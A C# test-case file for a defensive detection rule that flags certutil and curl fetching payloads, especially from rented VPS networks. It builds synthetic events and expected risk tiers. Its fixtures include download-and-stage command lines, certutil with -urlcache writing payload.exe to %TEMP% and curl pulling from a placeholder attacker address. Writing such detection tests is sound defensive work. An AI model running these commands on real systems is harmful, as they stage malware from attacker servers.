using System.Net;
using DetectionKit.Networks;

namespace DetectionKit.Detections;

/// <summary>What <see cref="VpsPayloadDownload"/> makes of which events.</summary>
internal static class VpsPayloadDownloadCases
{
    private const string Path = @"C:\Users\u\AppData\Local\Temp\payload.exe";
    private static readonly DateTimeOffset s_start = new(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);
    private static readonly HostingNetworks s_rented = HostingNetworks.Of(("203.0.113.0/25", "A provider"));
    private static readonly VpsPayloadDownloadOptions s_defaults = new();

    internal static IReadOnlyList<DetectionCase> All { get; } =
    [
        Case("certutil fetches an executable file", Start(), Call(), File()).Fires(DownloadRisk.High),
        Case("certutil fetches a text", Start(), Call(), File(path: @"C:\Temp\notes.txt")).Fires(DownloadRisk.Medium),
        Case("certutil calls out, and no file is seen", Start(), Call()).Fires(DownloadRisk.Low),
        Case("no connection", Start(), null, File()).StaysSilent(),
        Case("a connection that no downloader began", null, Call(), File()).StaysSilent(),
        Case("certutil that downloads nothing", Start(commandLine: "certutil.exe -dump x.cer"), Call(), File()).StaysSilent(),
        Case("another program with the same command line", Start(image: @"C:\Tools\mycertutil.exe"), Call(), File()).StaysSilent(),
        Case("a program whose name begins as a downloader's", Start(image: @"C:\Windows\System32\certutil.exe.mui"), Call(), File()).StaysSilent(),
        Case("an unknown program", Start(image: null), Call(), File()).StaysSilent(),
        Case("without a command line", Start(commandLine: null), Call(), File()).StaysSilent(),
        Case("a connection to 127.0.0.1, as validation test 2 makes it", Start(), Call(address: "127.0.0.1"), File()).StaysSilent(),
        Case("a connection of another process", Start(), Call(process: "2"), File()).StaysSilent(),
        Case("a connection of the same process number on another host", Start(), Call(host: "PC-2"), File()).StaysSilent(),
        Case("processes that are not known", Start(process: null), Call(process: null), File(process: null)).StaysSilent(),
        Case("a file of another process", Start(), Call(), File(process: "2")).Fires(DownloadRisk.Low),
        Case("a file of the same process number on another host", Start(), Call(), File(host: "PC-2")).Fires(DownloadRisk.Low),
        Case("a connection after three minutes", Start(), Call(at: 180), File(at: 185)).Fires(DownloadRisk.High),
        Case("a connection at the end of five minutes", Start(), Call(at: 300), File(at: 301)).Fires(DownloadRisk.High),
        Case("a connection after five minutes", Start(), Call(at: 301), File(at: 302)).StaysSilent(),
        Case("a connection before the start", Start(), Call(at: -1), File()).StaysSilent(),
        Case("a file three minutes after the connection", Start(), Call(), File(at: 182)).Fires(DownloadRisk.High),
        Case("a file more than five minutes after the connection", Start(), Call(), File(at: 303)).Fires(DownloadRisk.Low),
        DetectionCase.Of("two connections of one start", [Start()]).And([Call(), Call(at: 3)]).And([File(at: 5)]).Fires(DownloadRisk.High),
        DetectionCase.Of("two downloads of one host", [Start(), Start(process: "2", image: "/usr/bin/curl", commandLine: "curl -O http://203.0.113.9/x")]).And([Call(), Call(process: "2")]).Fires(DownloadRisk.Low, DownloadRisk.Low),
        Case("from a rented server", Start(), Call()).With(Rented(HostingUse.Annotate)).Fires(DownloadRisk.Low),
        Case("from a rented server, which raises the tier", Start(), Call()).With(Rented(HostingUse.Raise)).Fires(DownloadRisk.Medium),
        Case("from another server, where a rented one raises the tier", Start(), Call(address: "203.0.113.200")).With(Rented(HostingUse.Raise)).Fires(DownloadRisk.Low),
        Case("from a rented server, where there must be one", Start(), Call()).With(Rented(HostingUse.Require)).Fires(DownloadRisk.Low),
        Case("from another server, where there must be a rented one", Start(), Call(address: "203.0.113.200")).With(Rented(HostingUse.Require)).StaysSilent(),
        .. s_defaults.Downloaders.Items.Select(name => Case($"{name} by name", Start(image: (name.EndsWith(".exe", StringComparison.Ordinal) ? @"C:\Windows\System32\" : "/usr/bin/") + name), Call()).Fires(DownloadRisk.Low)),
        .. s_defaults.DownloadSigns.Items.Select(sign => Case($"{sign.Trim()} in the command line", Start(commandLine: $"x {sign.ToUpperInvariant()}y"), Call()).Fires(DownloadRisk.Low)),
        .. s_defaults.ExecutableEndings.Items.Select(ending => Case($"a file that ends in {ending}", Start(), Call(), File(path: @"C:\Temp\a" + ending)).Fires(DownloadRisk.High)),
        .. s_defaults.ExcludedNetworks.Items.Select(network => Case($"a connection to {network}", Start(), Call(address: Inside(network))).StaysSilent()),
    ];

    private static VpsPayloadDownloadOptions Rented(HostingUse use) => new() { Hosting = use, HostingNetworks = s_rented };

    private static DetectionCase Case(string name, ProcessStart? start, NetworkConnection? call, FileCreated? file = null)
    {
        var made = start is null ? DetectionCase.Of(name, [call!]) : DetectionCase.Of(name, [start]);
        if (start is not null && call is not null) made = made.And([call]);
        return file is null ? made : made.And([file]);
    }

    private static ProcessStart Start(string? process = "1", string? image = @"C:\Windows\System32\certutil.exe", string? commandLine = @"certutil.exe -urlcache -f -split payload %TEMP%\payload.exe") =>
        new(s_start, "PC-1", @"CORP\u", process, image, commandLine, @"C:\Windows\explorer.exe");

    private static NetworkConnection Call(double at = 2, string host = "PC-1", string? process = "1", string address = "203.0.113.9") =>
        new(s_start.AddSeconds(at), host, @"CORP\u", null, null, IPAddress.Parse(address), 8080) { Process = process };

    private static FileCreated File(double at = 4, string host = "PC-1", string? process = "1", string path = Path) => new(s_start.AddSeconds(at), host, null, process, null, path);

    private static string Inside(string network) => network.Split('/')[0] is var first && first.Contains(':', StringComparison.Ordinal) ? first : first[..^1] + "1";
}
